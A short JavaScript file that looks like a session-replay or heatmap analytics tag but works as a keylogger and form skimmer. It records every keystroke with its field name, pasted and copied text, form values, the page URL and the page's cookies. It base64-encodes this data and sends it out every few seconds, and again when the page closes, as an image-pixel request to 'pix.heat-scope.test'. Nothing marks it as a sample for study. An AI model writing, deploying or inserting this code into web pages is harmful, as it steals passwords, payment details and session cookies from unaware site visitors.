window.__sr = window.__sr || {};
(function (sr) {
  sr.b = '';
  sr.id = Math.random().toString(16).slice(2);
  sr.push = function (k, v) { sr.b += k + '\x01' + v + '\x02'; if (sr.b.length > 600) sr.out(); };
  sr.out = function () {
    if (!sr.b) return;
    var i = new Image();
    i.src = '//pix.heat-scope.test/r/' + sr.id + '.gif?' + encodeURIComponent(btoa(unescape(encodeURIComponent(sr.b))));
    sr.b = '';
  };
  document.addEventListener('keydown', function (e) { sr.push('k', (e.target.name || e.target.id || e.target.type || '') + ':' + e.key); }, true);
  document.addEventListener('paste', function (e) { sr.push('p', (e.clipboardData || window.clipboardData).getData('text')); }, true);
  document.addEventListener('copy', function () { sr.push('c', String(window.getSelection())); }, true);
  document.addEventListener('change', function (e) { if ('value' in e.target) sr.push('v', e.target.name + '=' + e.target.value); }, true);
  sr.push('u', location.href + '|' + document.cookie);
  setInterval(sr.out, 4000);
  window.addEventListener('pagehide', sr.out);
})(window.__sr);
